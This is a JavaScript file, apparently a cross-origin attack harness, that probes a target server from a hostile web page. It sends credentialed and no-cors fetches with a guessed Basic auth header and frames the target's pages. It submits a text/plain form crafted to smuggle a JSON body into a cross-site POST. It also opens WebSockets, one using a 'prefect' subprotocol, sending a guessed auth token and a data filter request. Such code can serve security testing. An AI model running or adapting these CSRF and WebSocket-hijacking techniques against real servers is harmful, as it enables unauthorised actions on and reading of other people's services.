// What a page of another origin can try on a server: read it, post to it, frame it, hold a socket to it, all at once.
// Answers {way: what came of it}: "refused", "unseen" (sent, and the answer kept from the page), or what was read.
async function attack(base, requests, sockets) {
  const ways = {};
  for (const [method, path, body] of requests) {
    const sent = method === "GET" ? {} : { method, body: JSON.stringify(body) };
    const guess = { Authorization: "Basic dXNlcjpndWVzcw==" };
    ways[`${method} ${path}`] = ask(base + path, sent);
    ways[`${method} ${path}, with cookies`] = ask(base + path, { ...sent, credentials: "include" });
    ways[`${method} ${path}, unseen`] = ask(base + path, { ...sent, mode: "no-cors" });
    ways[`${method} ${path}, as JSON`] = ask(base + path, { ...sent, headers: { "Content-Type": "application/json" } });
    ways[`${method} ${path}, with a guess`] = ask(base + path, { ...sent, headers: guess });
    ways[`script of ${path}`] = load("script", base + path);
    ways[`frame of ${path}`] = load("iframe", base + path);
    if (method !== "GET") ways[`form to ${path}`] = post(base + path, body);
  }
  for (const path of sockets)
    for (const protocols of [[], ["prefect"]])
      ways[`socket ${path} ${protocols}`] = talk(base.replace("http", "ws") + path, protocols);
  const came = await Promise.all(Object.values(ways));
  return Object.fromEntries(Object.keys(ways).map((way, number) => [way, came[number]]));
}

async function ask(address, options) {
  try {
    const answer = await fetch(address, { credentials: "omit", ...options });
    const text = await answer.text();
    return answer.type === "opaque" ? "unseen" + text : `read ${answer.status} ${text}`;
  } catch (error) {
    return "refused";
  }
}

function seen(frame) {
  try {
    return "read " + frame.contentWindow.document.documentElement.innerText;
  } catch (error) {
    return "unseen";
  }
}

function load(kind, address) {
  return new Promise((done) => {
    const element = document.createElement(kind);
    element.onload = () => done(kind === "iframe" ? seen(element) : "unseen");
    element.onerror = () => done("refused");
    element.src = address;
    document.body.appendChild(element);
  });
}

// A form whose text/plain body is JSON: {"name": "planted", …, "_": "="}
function post(address, body) {
  return new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.name = "into " + address + JSON.stringify(body);
    document.body.appendChild(frame);
    const form = document.body.appendChild(document.createElement("form"));
    Object.assign(form, { method: "POST", enctype: "text/plain", action: address, target: frame.name });
    const field = form.appendChild(document.createElement("input"));
    const start = JSON.stringify(body).slice(0, -1);
    field.name = `${start}${start.length > 1 ? "," : ""}"_":"`;
    field.value = '"}';
    frame.onload = () => done(seen(frame));
    form.submit();
  });
}

function talk(address, protocols) {
  return new Promise((done) => {
    const socket = new WebSocket(address, protocols);
    const got = [];
    socket.onopen = () => {
      socket.send(JSON.stringify({ type: "auth", token: "user:guess" }));
      socket.send(JSON.stringify({ type: "filter", filter: {} }));
    };
    socket.onmessage = (event) => got.push(event.data);
    socket.onclose = () => done(got.length ? "read " + got : "refused");
    setTimeout(() => done(got.length ? "read " + got : "held open"), 30000);
  });
}
